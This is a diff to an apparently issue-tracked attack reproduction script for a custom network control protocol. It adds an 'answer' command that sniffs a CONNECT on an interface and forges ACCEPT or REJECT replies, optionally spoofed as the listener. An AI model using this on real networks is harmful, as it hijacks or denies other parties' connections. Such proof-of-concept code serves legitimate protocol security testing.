@@ -17,6 +17,12 @@ attack of issue 15 and prints one JSON line of what came back.
                                       CLOSE claiming everything arrived, from
                                       our own address or spoofed as the
                                       listener's control socket
+  attack.py answer IFACE --op accept|reject --as own|listener [--ready F]
+                                      on path: answer the first CONNECT
+                                      seen on IFACE (its nonce read there)
+                                      with an ACCEPT or REJECT to the
+                                      requester, from our own address or
+                                      spoofed as the listener's
   attack.py acks IFACE [--secs S] [--ready FILE]
                                       on path: learn a connection from its
                                       CONNECT on IFACE, then answer each of
@@ -209,6 +215,38 @@ def cmd_close(a):
             'as': a.as_}
 
 
+def cmd_answer(a):
+    """Answer a CONNECT in the listener's place."""
+    st = {}
+
+    def want(src, sport, dst, dport, payload):
+        m = xrctrl.unpack(payload)
+        if m and m['op'] == xrctrl.CONNECT and dport == xrctrl.CTRL_PORT:
+            st['req'] = (src, sport, dst, dport, m)
+            return True
+        return False
+
+    if not rawnet.sniff(a.iface, time.monotonic() + a.wait, want, a.ready):
+        return {'seen': False}
+    src, sport, dst, dport, req = st['req']
+    op = xrctrl.ACCEPT if a.op == 'accept' else xrctrl.REJECT
+    msg = xrctrl.pack(op=op, nonce=req['nonce'], dst_conn=req['src_conn'],
+                      token=req['rx_token'], src_conn=1, mtu=1500, status=111,
+                      rx_token=int.from_bytes(os.urandom(8), 'big'), init_psn=1,
+                      init_csn=1, data_port=xrctrl.DATA_PORT, sport_lo=49152,
+                      sport_n=64, nplanes=1, family=4, npaths=8,
+                      addr=xrctrl.mapped(dst) + b'\0' * 48)
+    for _ in range(3):
+        if a.as_ == 'listener':
+            rawnet.send_spoofed(dst, dport, src, sport, msg)
+        else:
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.sendto(msg, (src, sport))
+            s.close()
+        time.sleep(0.05)
+    return {'seen': True, 'op': a.op, 'as': a.as_, 'to': '%s:%d' % (src, sport)}
+
+
 def cmd_acks(a):
     """Learn the requester's connection id and token from its CONNECT,
     then claim delivery of every DATA packet it sends: per path, a
@@ -285,6 +323,12 @@ def main():
     c.add_argument('iface')
     c.add_argument('--as', dest='as_', choices=('own', 'listener'), required=True)
     c.add_argument('--delay', type=float, default=0.3)
+    c.add_argument('--wait', type=float, default=15.0)
+    c.add_argument('--ready', help='file created once it watches')
+    c = sub.add_parser('answer')
+    c.add_argument('iface')
+    c.add_argument('--op', choices=('accept', 'reject'), required=True)
+    c.add_argument('--as', dest='as_', choices=('own', 'listener'), required=True)
     c.add_argument('--wait', type=float, default=15.0)
     c.add_argument('--ready', help='file created once it watches')
     c = sub.add_parser('acks')
